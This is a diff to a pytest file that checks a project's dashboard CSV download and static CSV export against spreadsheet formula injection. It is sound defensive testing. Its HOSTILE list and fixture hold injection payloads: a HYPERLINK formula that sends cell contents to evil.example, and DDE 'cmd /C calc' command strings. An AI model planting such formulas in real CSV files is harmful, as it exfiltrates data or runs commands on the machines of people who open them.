@@ -1,5 +1,6 @@
 """No CSV cell can run as a spreadsheet formula (OWASP, "CSV injection"), on both paths a CSV leaves by: the
 dashboard's Download CSV and the static export. Real negative numbers stay numbers."""
+
 from __future__ import annotations
 
 import csv
@@ -16,8 +17,14 @@ from data import DEFAULT_DIR, csvsafe, load_dataset
 
 from ..hostile import hostile_data
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -46,7 +53,7 @@ def poisoned(tmp_path_factory):
     for name in ("sources.yaml", "vocabulary.yaml"):
         shutil.copy(DEFAULT_DIR / name, source / name)
     shutil.copytree(DEFAULT_DIR / "episodes", source / "episodes")
-    return hostile_data(source, target, text="=HYPERLINK(\"http://evil.example\",\"x\")+")
+    return hostile_data(source, target, text='=HYPERLINK("http://evil.example","x")+')
 
 
 def test_cs003_the_dashboards_download_is_neutralised(poisoned):
@@ -64,8 +71,9 @@ def test_cs003_the_dashboards_download_is_neutralised(poisoned):
 
 def test_cs004_the_exports_csv_is_neutralised(poisoned, tmp_path):
     out = tmp_path / "out"
-    assert main(["export", "--data", str(poisoned), "--out", str(out), "--no-images", "--episode",
-                 "feb-2026-crash"]) == 0
+    assert (
+        main(["export", "--data", str(poisoned), "--out", str(out), "--no-images", "--episode", "feb-2026-crash"]) == 0
+    )
     files = sorted(out.glob("*.csv"))
     assert len(files) == len(NAMES)
     cells = [c for f in files for c in _cells(f.read_text(encoding="utf-8"))]
